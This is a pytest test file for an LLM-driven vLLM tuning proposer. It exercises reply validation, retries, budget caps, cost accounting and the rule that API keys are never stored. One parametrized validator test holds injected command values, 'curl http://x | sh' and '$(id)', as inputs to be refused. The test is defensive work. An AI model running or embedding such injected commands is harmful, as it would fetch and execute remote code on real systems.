"""The LLM proposer through the real SDKs against the fake provider: good and malformed
replies (sent back with the exact error, then an `invalid` row), retries with backoff,
a provider that stays down, the dollar cap, token and cost accounting, the prompt it
sends, and `tune --dry-run` end to end without the key ever reaching the run folder."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from aevyra_forge.agent import AgentContext, Budget, BudgetExceeded
from aevyra_forge.agent import llm as llm_module
from aevyra_forge.agent.llm import LLMProposer, make_llm_proposer
from aevyra_forge.agent.pricing import DEFAULT_PRICES, FREE, Price
from aevyra_forge.agent.prompt import build_prompt
from aevyra_forge.agent.providers import PROVIDERS, ChatClient, ChatTurn, Completion, connect
from aevyra_forge.agent.reply import MAX_ECHOED_REPLY_CHARS, MAX_STORED_REPLY_CHARS
from aevyra_forge.core.errors import AgentError
from aevyra_forge.core.settings import TuneSettings
from aevyra_forge.core.values import ExperimentRecord, Layer, Proposal
from aevyra_forge.core.workload import load_workload
from aevyra_forge.loop import session
from aevyra_forge.loop.events import Event
from aevyra_forge.space.gpu_catalogue import gpu_spec
from aevyra_forge.space.knob_space import KnobSpace
from aevyra_forge.space.model_profile import profile
from aevyra_forge.space.playbook import load_playbook
from tests.conftest import MODEL_8B, SAMPLE_WORKLOAD
from tests.conftest import run_cli as _cli
from tests.fake_provider import Fail, FakeProvider, Hang, Reply, proposal, rotating_agent

SONNET = DEFAULT_PRICES["claude-sonnet-4-6"]
A100 = KnobSpace(gpu_spec("A100-80GB").hardware(), profile(MODEL_8B), simulated=True)
BASE = A100.baseline(MODEL_8B)
WORKLOAD = load_workload(SAMPLE_WORKLOAD).stats
PLAYBOOK = load_playbook()
GOOD = proposal({"max_num_seqs": 512}, rationale="more sequences per step")
KEY = "SECRET-TEST-KEY-123"
BACKOFF_S = 0.01
# Per-call client timeout: far beyond any scripted reply, so a loaded machine never turns
# a reply into a timeout; the one timeout test gives up early on purpose (_GivesUpOnce).
PATIENT_S = 60.0


@pytest.fixture
def fake() -> Iterator[FakeProvider]:
    with FakeProvider() as server:
        yield server


@pytest.fixture(params=["anthropic", "openai"])
def wire(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def _client(fake: FakeProvider, wire: str, timeout_s: float = PATIENT_S) -> ChatClient:
    provider = PROVIDERS["anthropic" if wire == "anthropic" else "openrouter"]
    url = fake.url if wire == "anthropic" else fake.openai_url
    return connect(provider, "claude-sonnet-4-6", KEY, url, timeout_s=timeout_s)


def _proposer(fake: FakeProvider, wire: str, price: Price | None = SONNET,
              sleeps: list[float] | None = None, client: ChatClient | None = None,
              sleep: Callable[[float], None] | None = None) -> LLMProposer:
    provider = PROVIDERS["anthropic" if wire == "anthropic" else "openrouter"]
    return LLMProposer(provider, "claude-sonnet-4-6", client or _client(fake, wire), price,
                       backoff_base_s=BACKOFF_S,
                       sleep=sleep or (sleeps if sleeps is not None else []).append)


class _GivesUpOnce:
    """Two real clients of the fake: the first call goes through one that gives up after
    a moment, every later call through a patient one. The timeout under test then applies
    to the held request only, never to the retry, however slow the machine is."""

    def __init__(self, impatient: ChatClient, patient: ChatClient) -> None:
        self.impatient, self.patient = impatient, patient
        self.calls = 0

    def complete(self, system: str, turns: Sequence[ChatTurn], max_tokens: int
                 ) -> Completion:
        self.calls += 1
        client = self.impatient if self.calls == 1 else self.patient
        return client.complete(system, turns, max_tokens)


def _ctx(history: tuple[ExperimentRecord, ...] = (), layer: Layer = 1,
         dollars: float | None = None, feedback: str | None = None) -> AgentContext:
    return AgentContext(hardware=A100.hw, workload=WORKLOAD, layer=layer, space=A100,
                        best=BASE, best_score=1.0, history=history, playbook=PLAYBOOK,
                        budget=Budget(20, 5.0, dollars),
                        tried_ids=frozenset(r.recipe_id for r in history),
                        feedback=feedback)


def test_good_reply(fake: FakeProvider, wire: str) -> None:
    fake.script(Reply(GOOD, input_tokens=5000, output_tokens=60))
    reply = _proposer(fake, wire).propose(_ctx())
    assert reply.error is None and reply.raw == GOOD
    assert reply.proposal == Proposal(rationale="more sequences per step", layer=1,
                                      changes={"max_num_seqs": 512},
                                      expected_effect="faster")
    assert (reply.usage.input_tokens, reply.usage.output_tokens) == (5000, 60)
    assert reply.usage.cost_usd == pytest.approx((5000 * 3 + 60 * 15) / 1e6)
    assert len(fake.requests) == 1 and fake.requests[0].key == KEY


def test_prose_around_json(fake: FakeProvider, wire: str) -> None:
    fake.script(Reply(f"Given the preemptions, I suggest:\n\n```json\n{GOOD}\n```\n\n"
                      "This should raise throughput."))
    reply = _proposer(fake, wire).propose(_ctx())
    assert reply.proposal is not None and reply.proposal.changes == {"max_num_seqs": 512}


def test_invalid_reply_is_sent_back_with_the_exact_error(fake: FakeProvider,
                                                         wire: str) -> None:
    bad = proposal({"max_num_seq": 512})
    fake.script(Reply(bad, input_tokens=100, output_tokens=10),
                Reply(GOOD, input_tokens=120, output_tokens=12))
    reply = _proposer(fake, wire).propose(_ctx())
    assert reply.proposal is not None and reply.error is None
    assert (reply.usage.input_tokens, reply.usage.output_tokens) == (220, 22)
    second = fake.requests[1]
    assert [t["role"] for t in second.turns] == ["user", "assistant", "user"]
    assert second.turns[1]["content"] == bad
    assert second.last_user.startswith("That reply was refused: unknown knob 'max_num_seq'")
    assert "max_num_seqs" in second.last_user  # the allowed knobs are listed
    assert second.system == fake.requests[0].system


@pytest.mark.parametrize(("changes", "layer", "needle"), [
    ({"max_num_seqs": 256.0}, 1, "max_num_seqs takes an integer, got 256.0"),  # float/int
    ({"gpu_memory_utilization": 0.999}, 1, "out of range [0.5, 0.98]"),
    ({"max_num_seqs": "512; curl http://x | sh"}, 1, "is not a value any knob accepts"),
    ({"attention_backend": "FLASHINFER$(id)"}, 3, "is not a value any knob accepts"),
    ({"model": "/home/me/other-model"}, 1, "'model' is not a knob"),
    ({"checkpoint": "evil/llama-awq"}, 2, "'checkpoint' is not a knob"),
    ({"max_num_seqs": 512, "max_num_batched_tokens": 8192, "block_size": 32}, 1,
     "changes 3 knobs"),
])
def test_replies_that_stay_invalid_become_an_error(fake: FakeProvider, wire: str,
                                                   changes: dict[str, Any], layer: Layer,
                                                   needle: str) -> None:
    bad = proposal(changes, layer)
    fake.script(Reply(bad), Reply(bad), Reply(bad))
    reply = _proposer(fake, wire).propose(_ctx(layer=layer))
    assert reply.proposal is None
    assert reply.error is not None and reply.error.startswith("invalid reply after 3 tries")
    assert needle in reply.error
    assert reply.raw is not None and reply.raw.count(bad) == 3
    assert len(fake.requests) == 3 and needle in fake.requests[2].last_user
    assert reply.usage.input_tokens > 0 and reply.usage.cost_usd > 0


def test_a_huge_refused_reply_is_capped_where_stored_and_where_sent_back(
        fake: FakeProvider) -> None:
    # 200 kB of rambling that names an unknown knob, as a provider once answered
    huge = "I think " * 25_000 + proposal({"max_num_seq": 512})
    fake.script(Reply(huge), Reply(huge), Reply(huge))
    reply = _proposer(fake, "anthropic").propose(_ctx())
    assert reply.proposal is None and reply.error is not None
    assert reply.raw is not None
    stored = reply.raw.split("\n----- reply after refusal -----\n")
    assert len(stored) == 3
    assert all(text.startswith("I think ") and len(text) < MAX_STORED_REPLY_CHARS + 100
               and text.endswith(f"of {len(huge)} characters not shown]") for text in stored)
    echoed = fake.requests[1].turns[1]["content"]
    assert len(echoed) < MAX_ECHOED_REPLY_CHARS + 100 and "characters not shown]" in echoed
    assert len(fake.requests[2].last_user) < 2 * MAX_ECHOED_REPLY_CHARS


def test_nothing_left_to_try(fake: FakeProvider) -> None:
    fake.script(Reply(proposal({}, rationale="every knob is exhausted")))
    reply = _proposer(fake, "anthropic").propose(_ctx())
    assert reply.proposal is None and reply.error is None and reply.usage.input_tokens > 0


def test_429_then_success(fake: FakeProvider, wire: str) -> None:
    sleeps: list[float] = []
    fake.script(Fail(429, headers={"retry-after-ms": "20"}), Reply(GOOD))
    reply = _proposer(fake, wire, sleeps=sleeps).propose(_ctx())
    assert reply.proposal is not None
    assert sleeps == [0.02]  # the server's retry-after beat the 0.01 s backoff
    assert len(fake.requests) == 2


def test_provider_that_stays_down(fake: FakeProvider, wire: str) -> None:
    sleeps: list[float] = []
    fake.script(*[Fail(500)] * 4)
    with pytest.raises(AgentError) as exc:
        _proposer(fake, wire, sleeps=sleeps).propose(_ctx())
    message = str(exc.value)
    assert "unreachable after 4 tries (last: HTTP 500)" in message
    assert KEY not in message  # the CLI adds how to resume (tests/test_cli.py)
    assert sleeps == [BACKOFF_S, 2 * BACKOFF_S, 4 * BACKOFF_S]
    assert len(fake.requests) == 4


def test_timeout_is_retried(fake: FakeProvider, wire: str) -> None:
    """The fake holds the first request until the client times out and hangs up; the
    backoff (the injected sleep) returns only once the fake has seen that, so the retry
    is the second request the fake reads and gets the scripted reply."""
    sleeps: list[float] = []

    def backoff(seconds: float) -> None:
        sleeps.append(seconds)
        assert fake.hung_up.wait(PATIENT_S), "the fake never saw the client give up"

    fake.script(Hang(), Reply(GOOD))
    client = _GivesUpOnce(_client(fake, wire, timeout_s=0.05), _client(fake, wire))
    reply = _proposer(fake, wire, client=client, sleep=backoff).propose(_ctx())
    assert reply.proposal is not None and reply.error is None
    assert sleeps == [BACKOFF_S] and len(fake.requests) == 2


def test_rejected_key_stops_with_the_variable(fake: FakeProvider) -> None:
    fake.script(Fail(401, message="invalid x-api-key"))
    with pytest.raises(AgentError, match="ANTHROPIC_API_KEY"):
        _proposer(fake, "anthropic").propose(_ctx())
    assert len(fake.requests) == 1  # never retried


def test_dollar_cap_stops_before_the_call(fake: FakeProvider) -> None:
    proposer = _proposer(fake, "anthropic")
    prompt = build_prompt(_ctx(dollars=1.0))
    worst = proposer.worst_case_usd(prompt.system, [ChatTurn("user", prompt.user)])
    # worst case = the estimated prompt (with margin) plus all 1024 output tokens
    assert worst > SONNET.cost(0, 1024) > 0
    with pytest.raises(BudgetExceeded, match=r"could cost up to \$"):
        proposer.propose(_ctx(dollars=worst * 0.99))
    assert fake.requests == []


def test_dollar_cap_mid_correction_keeps_the_spend(fake: FakeProvider) -> None:
    proposer = _proposer(fake, "anthropic")
    prompt = build_prompt(_ctx(dollars=1.0))
    worst = proposer.worst_case_usd(prompt.system, [ChatTurn("user", prompt.user)])
    fake.script(Reply(proposal({"max_num_seq": 1})))
    reply = proposer.propose(_ctx(dollars=worst * 1.2))
    assert len(fake.requests) == 1
    assert reply.proposal is None and reply.error is not None
    assert "unknown knob" in reply.error and "LLM budget spent" in reply.error
    assert reply.usage.cost_usd > 0  # recorded with the invalid row


def test_missing_usage_is_estimated(fake: FakeProvider) -> None:
    fake.script(Reply(GOOD, usage=False))
    reply = _proposer(fake, "openai").propose(_ctx())
    assert reply.usage.input_tokens > 1000 and reply.usage.output_tokens > 10


def test_prompt_carries_playbook_history_and_feedback(fake: FakeProvider, wire: str) -> None:
    recipe = A100.apply(BASE, {"max_num_seqs": 512})
    history = (ExperimentRecord(
        exp=1, recipe=recipe.to_dict(), recipe_id=recipe.id, parent_id=BASE.id,
        generation=1, layer=1, status="oom", reason="CUDA out of memory under load",
        proposal=Proposal(rationale="bigger batches", layer=1,
                          changes={"max_num_seqs": 512}),
        started_at="t", finished_at="t"),)
    fake.script(Reply(proposal({"max_num_seqs": 128})))
    _proposer(fake, wire).propose(_ctx(history, feedback="repeat of experiment 1"))
    rec = fake.requests[0]
    assert PLAYBOOK.text.strip() in rec.system and "## Reply format" in rec.system
    user = rec.last_user
    assert ("exp 1 [layer 1] max_num_seqs=512 -> oom: CUDA out of memory under load"
            in user)
    assert "## Your previous proposal was refused\nrepeat of experiment 1" in user
    assert "## Knobs you may change now (layer 1" in user


# -- construction ------------------------------------------------------------------------
def test_make_checks_key_price_and_cap(tmp_path: Path) -> None:
    with pytest.raises(AgentError, match="set OPENAI_API_KEY or pass --llm-api-key"):
        make_llm_proposer("openai/gpt-4o", env={})
    with pytest.raises(AgentError, match="--llm-prices"):
        make_llm_proposer("together/some/model", api_key="k", max_dollars=1.0)
    unknown = make_llm_proposer("together/some/model", api_key="k")
    assert unknown.price is None and "no price known" in unknown.notes[0]
    assert make_llm_proposer("ollama/qwen2.5:7b").price == FREE
    prices = tmp_path / "p.yaml"
    prices.write_text("together/some/model: {input: 1, output: 2}\n")
    priced = make_llm_proposer("together/some/model", api_key="k", prices=str(prices),
                               max_dollars=1.0)
    assert priced.price is not None and priced.price.output_per_mtok == 2.0
    assert not priced.notes


# -- tune --dry-run end to end -----------------------------------------------------------
MOVES: dict[int, list[dict[str, Any]]] = {
    1: [{"max_num_batched_tokens": 8192}, {"max_num_seqs": 512},
        {"gpu_memory_utilization": 0.93}],
    # a candidate from the prompt's list, as a model picks one (a dry run's are simulated)
    2: [{"quant_candidate": "hub:RedHatAI/Llama-3.1-8B-Instruct-quantized.w8a8"}],
    3: [{"attention_backend": "FLASHINFER"}, {"cudagraph_mode": "PIECEWISE"}]}


def _tune(tmp_path: Path, llm: str, url: str, *extra: str) -> list[str]:
    return ["tune", "--dry-run", "--gpu", "A100-80GB", "--model", MODEL_8B, "--workload",
            str(SAMPLE_WORKLOAD), "--llm", llm, "--llm-base-url", url, "--run-dir",
            str(tmp_path / ".forge"), "--max-experiments", "10", "--repeats", "2", *extra]


def _run_dir(tmp_path: Path) -> Path:
    return next(p for p in (tmp_path / ".forge" / "runs").iterdir() if p.is_dir())


def _no_secret_under(root: Path, secret: str) -> None:
    files = [p for p in root.rglob("*") if p.is_file()]
    assert files
    for path in files:
        assert secret.encode() not in path.read_bytes(), path


@pytest.mark.parametrize(("llm", "openai_wire"), [
    ("anthropic/claude-sonnet-4-6", False), ("openai/gpt-4o-mini", True)])
def test_dry_run_tuned_by_the_fake_provider(tmp_path: Path, llm: str, openai_wire: bool,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    bad = proposal({"max_num_seqs": 512.5})
    with FakeProvider(rotating_agent(MOVES)) as fake:
        fake.script(Reply(bad), Reply(bad), Reply(bad))  # the first ask: an invalid row
        url = fake.openai_url if openai_wire else fake.url
        code, out, err = _cli(_tune(tmp_path, llm, url, "--llm-api-key", KEY), capsys)
    assert code == 0, err
    assert "best recipe" in out and "vllm serve" in out
    assert fake.requests and all(r.key == KEY for r in fake.requests)
    assert all(PLAYBOOK.text.strip() in r.system for r in fake.requests)
    run = _run_dir(tmp_path)
    records = [json.loads(line) for line in (run / "experiments.jsonl").read_text()
               .splitlines()]
    assert records[1]["status"] == "invalid" and "takes an integer" in records[1]["reason"]
    assert records[1]["raw_reply"].count(bad) == 3
    measured = [r for r in records[2:] if r["status"] == "ok"]
    assert measured and all(r["llm"]["input_tokens"] > 0 for r in records[1:])
    assert {r["layer"] for r in records} >= {1, 2}
    assert [r["recipe"]["quant"]["checkpoint"] for r in measured if r["layer"] == 2] == [
        "RedHatAI/Llama-3.1-8B-Instruct-quantized.w8a8"]
    code, out, _ = _cli(["report", str(tmp_path / ".forge"), "--format", "json"], capsys)
    spent = json.loads(out)["summary"]["llm_cost_usd"]
    assert spent == pytest.approx(sum(r["llm"]["cost_usd"] for r in records), abs=1e-6)
    assert spent > 0
    _no_secret_under(tmp_path / ".forge", KEY)
    config = json.loads((run / "config.json").read_text())
    assert config["settings"]["llm_base_url"] == url
    assert "api_key" not in json.dumps(config)


def test_key_from_the_environment_is_not_stored(tmp_path: Path,
                                                monkeypatch: pytest.MonkeyPatch,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    secret = "SECRET-ENV-KEY-456"
    monkeypatch.setenv("OPENAI_API_KEY", secret)
    with FakeProvider(rotating_agent(MOVES)) as fake:
        code, _, err = _cli(_tune(tmp_path, "openai/gpt-4o-mini", fake.openai_url,
                                  "--max-experiments", "4"), capsys)
    assert code == 0, err
    assert fake.requests and all(r.key == secret for r in fake.requests)
    _no_secret_under(tmp_path / ".forge", secret)


def test_provider_down_ends_resumably_then_resume(tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch,
                                                  capsys: pytest.CaptureFixture[str]
                                                  ) -> None:
    monkeypatch.setattr(llm_module, "BACKOFF_BASE_S", 0.0)
    with FakeProvider(lambda rec: Fail(503)) as fake:
        code, _, err = _cli(_tune(tmp_path / "cli", "anthropic/claude-sonnet-4-6", fake.url,
                                  "--llm-api-key", KEY, "--max-experiments", "4"), capsys)
        lines = [line for line in err.splitlines() if line.startswith("error:")]
        assert code == 1 and len(lines) == 1
        assert "unreachable after 4 tries" in lines[0] and "tune resume" in lines[0]
        assert not (_run_dir(tmp_path / "cli") / "completed.json").exists()
        # The same through the session, closing the run as a new process would find it
        # (in one process the failed CLI run keeps its lock until exit).
        settings = TuneSettings(model=MODEL_8B, workload=str(SAMPLE_WORKLOAD),
                                llm="anthropic/claude-sonnet-4-6", llm_base_url=fake.url,
                                run_dir=str(tmp_path / ".forge"), dry_run=True,
                                gpu="A100-80GB", max_experiments=6, repeats=2)
        tuner = session.start(settings, _Quiet(), api_key=KEY)
        with pytest.raises(AgentError, match="unreachable"):
            tuner.run()
        tuner.run_log.close()  # type: ignore[attr-defined]
        run = _run_dir(tmp_path)
        assert len((run / "experiments.jsonl").read_text().splitlines()) == 1
        fake.responder = rotating_agent(MOVES)
        code, _, err = _cli(["tune", "resume", "--run-dir", str(tmp_path / ".forge"),
                             "--llm-api-key", KEY], capsys)
    assert code == 0, err
    assert (run / "completed.json").exists()
    assert fake.requests[-1].key == KEY  # the key came again from the option
    _no_secret_under(tmp_path, KEY)


class _Quiet:
    def notify(self, event: Event) -> None:
        del event


def test_several_workers_get_their_proposals_from_one_call(fake: FakeProvider,
                                                          wire: str) -> None:
    """A round of three: one request asks for three distinct proposals (naming the one
    already chosen), and a reply repeating a change is sent back like any invalid one."""
    import dataclasses
    import json

    pending = (Proposal(rationale="r", layer=1, changes={"block_size": 32}),)
    batch = [json.loads(proposal({"max_num_seqs": v})) for v in (64, 64)]
    fixed = [json.loads(proposal({"max_num_seqs": v})) for v in (64, 128)]
    fake.script(Reply(json.dumps({"proposals": batch})),
                Reply(json.dumps({"proposals": fixed})))
    ctx = dataclasses.replace(_ctx(), want=2, pending=pending)
    reply = _proposer(fake, wire).propose(ctx)
    assert reply.error is None
    assert [p.changes for p in reply.proposals] == [{"max_num_seqs": 64},
                                                    {"max_num_seqs": 128}]
    assert len(fake.requests) == 2  # the first reply refused, once
    asked = json.dumps(fake.requests[0].body)
    assert "Propose 2 DIFFERENT experiments" in asked and "block_size=32" in asked
    assert "proposals 1 and 2 make the same change" in json.dumps(fake.requests[1].body)
